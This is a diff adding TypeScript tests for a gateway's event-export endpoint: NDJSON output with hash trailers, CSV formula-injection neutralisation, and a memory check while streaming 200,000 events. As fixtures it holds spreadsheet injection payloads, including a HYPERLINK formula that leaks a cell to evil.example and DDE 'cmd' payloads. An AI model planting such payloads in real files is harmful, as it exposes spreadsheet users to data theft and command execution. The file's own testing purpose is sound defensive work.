@@ -1,0 +1,220 @@
+import { createHash } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import pg from 'pg';
+import request from 'supertest';
+import {
+  bearer,
+  bulletin,
+  createKeyIn,
+  csvRecords,
+  parseCsv,
+  parseNdjson,
+  raise,
+  textParser,
+} from '../support/compliance-fixtures.js';
+import { ACCOUNT_ID, startGateway, type GatewayHarness } from '../support/gateway-harness.js';
+import { GatewayProcess } from '../support/gateway-process.js';
+import { createTestDatabase, type TestDatabase } from '../support/test-database.js';
+
+/** Cells a spreadsheet would run as a formula; OWASP's list, plus tab and CR. */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+describe('exporting events', () => {
+  let gateway: GatewayHarness;
+  let auditor: string;
+  const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '+SUM(1,2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)'];
+  const ids: Record<string, string> = {};
+
+  beforeAll(async () => {
+    gateway = await startGateway();
+    auditor = await gateway.createPartner({ role: 'auditor', accounts: [] });
+    const plain = await gateway.createPartner({ name: 'plain partner' });
+    const hostile = await gateway.createPartner({ name: '=cmd|\' /C notepad\'!A0' });
+    ids.plain = await raise(gateway, plain, bulletin({ name: 'An ordinary bulletin' }));
+    for (const [i, formula] of formulas.entries())
+      ids[`formula${i}`] = await raise(gateway, hostile, bulletin({ name: formula, properties: { program_id: formula } }), {
+        headers: { 'Idempotency-Key': `${formula.slice(0, 1)}idem-${i}` },
+      });
+    // Unknown business event: a failed event whose business_event and error cells are both attacker-chosen.
+    ids.failed = await raise(gateway, hostile, bulletin({ business_event: '=Formula Event', name: '@failed one' }));
+  });
+  afterAll(() => gateway.close());
+
+  const exportText = async (query: Record<string, string>, key = auditor) => {
+    const response = await request(gateway.http).get('/v1/events/export').query(query).set(bearer(key)).buffer(true).parse(textParser).expect(200);
+    return { response, text: response.body as string };
+  };
+
+  describe('as NDJSON', () => {
+    it('streams a header, every event oldest first, and a trailer that hashes the lines before it', async () => {
+      const { response, text } = await exportText({ format: 'ndjson' });
+      expect(response.headers['content-type']).toMatch(/^application\/x-ndjson/);
+      expect(response.headers['content-disposition']).toMatch(/attachment; filename="bulletin-events\.ndjson"/);
+      const { header, events, trailer } = parseNdjson(text);
+      expect(header).toMatchObject({ type: 'header', format: expect.any(String) });
+      expect(events.map((event) => event.id)).toEqual(Object.values(ids));
+      expect(events[0]).toMatchObject({ id: ids.plain, status: 'sent', payload: bulletin({ name: 'An ordinary bulletin' }) });
+
+      const lines = text.split('\n').filter(Boolean);
+      const body = lines.slice(0, -1).map((line) => `${line}\n`).join('');
+      expect(trailer).toMatchObject({ type: 'trailer', lines: lines.length - 1, sha256: createHash('sha256').update(body).digest('hex') });
+    });
+
+    it('keeps the data exactly as received: JSON needs no neutralising', async () => {
+      const { events } = parseNdjson((await exportText({})).text);
+      expect(events.find((event) => event.id === ids.formula0)).toMatchObject({ name: formulas[0], payload: { name: formulas[0] } });
+    });
+
+    it.each<[string, Record<string, string>, string[]]>([
+      ['status', { status: 'failed' }, ['failed']],
+      ['q', { q: 'ordinary' }, ['plain']],
+      ['business_event', { business_event: '=Formula Event' }, ['failed']],
+      ['q and status together', { q: 'SUM', status: 'sent' }, ['formula1', 'formula3']],
+    ])('streams only the events matching the %s filter', async (_filter, query, expected) => {
+      const { events, trailer } = parseNdjson((await exportText({ format: 'ndjson', ...query })).text);
+      expect(events.map((event) => event.id)).toEqual(expected.map((label) => ids[label]));
+      expect(trailer.lines).toBe(expected.length + 1);
+    });
+
+    it('still has a header and a trailer when nothing matches', async () => {
+      const { header, events, trailer } = parseNdjson((await exportText({ q: 'no such bulletin' })).text);
+      expect(header).toBeDefined();
+      expect(events).toEqual([]);
+      expect(trailer).toMatchObject({ lines: 1 });
+    });
+  });
+
+  describe('as CSV', () => {
+    it('streams a header row and one row per matching event', async () => {
+      const { response, text } = await exportText({ format: 'csv' });
+      expect(response.headers['content-type']).toMatch(/^text\/csv/);
+      expect(response.headers['content-disposition']).toMatch(/filename="bulletin-events\.csv"/);
+      const rows = csvRecords(text);
+      expect(rows.map((row) => row.id)).toEqual(Object.values(ids));
+      expect(rows[0]).toMatchObject({ id: ids.plain, name: 'An ordinary bulletin', status: 'sent', account_id: ACCOUNT_ID, partner_name: 'plain partner' });
+      expect(JSON.parse(rows[0].payload)).toEqual(bulletin({ name: 'An ordinary bulletin' }));
+
+      const failedOnly = csvRecords((await exportText({ format: 'csv', status: 'failed' })).text);
+      expect(failedOnly.map((row) => row.id)).toEqual([ids.failed]);
+    });
+
+    it('neutralises every cell that starts with = + - or @', async () => {
+      const { text } = await exportText({ format: 'csv' });
+      const [header, ...rows] = parseCsv(text);
+      expect(header.some((cell) => FORMULA_START.test(cell))).toBe(false);
+      const dangerous = rows.flatMap((cells, row) => cells.filter((cell) => FORMULA_START.test(cell)).map((cell) => ({ row, cell })));
+      expect(dangerous).toEqual([]);
+    });
+
+    it.each(formulas.map((formula, i) => [formula, i] as const))('keeps %s readable as text, with a leading apostrophe', async (formula, i) => {
+      const rows = csvRecords((await exportText({ format: 'csv' })).text);
+      const row = rows.find((candidate) => candidate.id === ids[`formula${i}`])!;
+      expect(row.name).toBe(`'${formula}`);
+      expect(row.partner_name).toBe("'=cmd|' /C notepad'!A0");
+      expect(row.idempotency_key).toBe(`'${formula.slice(0, 1)}idem-${i}`);
+      expect(JSON.parse(row.payload).properties.program_id).toBe(formula);
+    });
+
+    it('neutralises attacker-chosen business events too', async () => {
+      const rows = csvRecords((await exportText({ format: 'csv', status: 'failed' })).text);
+      expect(rows).toEqual([expect.objectContaining({ business_event: "'=Formula Event", name: "'@failed one" })]);
+    });
+  });
+});
+
+/**
+ * 200,000 events exported from a real gateway process while its resident memory is sampled: a streamed
+ * export holds one batch at a time, so memory must stay flat however long the log is.
+ */
+describe('exporting 200,000 events', () => {
+  const EVENTS = 200_000;
+  /** Peak RSS minus RSS before the export: measured at 7-20 MB; buffering 200k rows would take hundreds. */
+  const MAX_GROWTH_MB = 60;
+  let database: TestDatabase;
+  let gateway: GatewayProcess;
+  let auditorKey: string;
+
+  beforeAll(async () => {
+    database = await createTestDatabase();
+    const partner = await createKeyIn(database.url, 'partner', [ACCOUNT_ID]);
+    auditorKey = (await createKeyIn(database.url, 'auditor')).key;
+    const db = new pg.Client(database.url);
+    await db.connect();
+    try {
+      await db.query(
+        `INSERT INTO bulletin_events (id, partner_id, account_id, business_event, payload, payload_sha256, request_id, received_at)
+         SELECT gen_random_uuid(), $1, $2, 'Program Released',
+                jsonb_build_object('business_event', 'Program Released', 'name', 'Bulk bulletin ' || g,
+                                   'properties', jsonb_build_object('program_id', g::text, 'language', 'Hindi'), 'when', 'now'),
+                md5(g::text), 'bulk-' || g, now() - make_interval(secs => ($3 - g) / 1000.0)
+           FROM generate_series(1, $3::int) g`,
+        [partner.id, ACCOUNT_ID, EVENTS],
+      );
+      await db.query(
+        `INSERT INTO dispatch_attempts (event_id, attempt_number, trigger, outcome, resulting_status, http_status, clevertap_status, targets, started_at, latency_ms)
+         SELECT id, 1, 'auto', 'sent', 'sent', 200, 'success', 1, received_at, 12 FROM bulletin_events`,
+      );
+      await db.query(`INSERT INTO event_status (event_id, account_id, status, attempts) SELECT id, account_id, 'sent', 1 FROM bulletin_events`);
+      await db.query('ANALYZE');
+    } finally {
+      await db.end();
+    }
+    gateway = await GatewayProcess.start({
+      DATABASE_URL: database.url,
+      // The sealer would chain the 200k rows in the background and blur the export's own footprint.
+      AUDIT_SEAL_INTERVAL_MS: '3600000',
+      // Left alone, V8 lets short-lived garbage pile up (the CSV encoder makes plenty) before collecting
+      // it, which looks like growth. A modest old-space cap makes RSS track what is really retained, and
+      // an export that kept its rows would die of it instead of passing.
+      NODE_OPTIONS: '--max-old-space-size=128',
+    });
+  }, 120_000);
+  afterAll(async () => {
+    await gateway?.kill('SIGTERM');
+    await database?.drop();
+  });
+
+  const rssMb = () => {
+    const status = readFileSync(`/proc/${gateway.child.pid}/status`, 'utf8');
+    return Number(/VmRSS:\s+(\d+) kB/.exec(status)![1]) / 1024;
+  };
+
+  it.each(['ndjson', 'csv'])('streams all of them as %s while the process memory stays flat', async (format) => {
+    // Warm the route up (modules, pools, JIT) so the baseline is the steady state, not a cold start.
+    await (await fetch(`${gateway.url}/v1/events/export?format=${format}&q=warm-up`, { headers: bearer(auditorKey) })).text();
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    const before = rssMb();
+    let peak = before;
+    const sampler = setInterval(() => (peak = Math.max(peak, rssMb())), 100);
+    let lines = 0;
+    let tail = '';
+    const started = Date.now();
+    try {
+      const response = await fetch(`${gateway.url}/v1/events/export?format=${format}`, { headers: bearer(auditorKey) });
+      expect(response.status).toBe(200);
+      const decoder = new TextDecoder();
+      for await (const chunk of response.body!) {
+        const text = decoder.decode(chunk, { stream: true });
+        for (let i = text.indexOf('\n'); i !== -1; i = text.indexOf('\n', i + 1)) lines++;
+        tail = (tail + text).slice(-4096);
+      }
+    } finally {
+      clearInterval(sampler);
+    }
+    peak = Math.max(peak, rssMb());
+    const growth = peak - before;
+    console.log(
+      `export of ${EVENTS} events as ${format}: ${lines} lines in ${Date.now() - started} ms; ` +
+        `RSS before ${before.toFixed(1)} MB, peak ${peak.toFixed(1)} MB, growth ${growth.toFixed(1)} MB`,
+    );
+
+    if (format === 'ndjson') {
+      expect(lines).toBe(EVENTS + 2); // header, events, trailer
+      const trailer = JSON.parse(tail.trimEnd().split('\n').pop()!);
+      expect(trailer).toMatchObject({ type: 'trailer', lines: EVENTS + 1 });
+    } else {
+      expect(lines).toBe(EVENTS + 1); // header row, events
+    }
+    expect(growth).toBeLessThan(MAX_GROWTH_MB);
+  }, 60_000);
+});
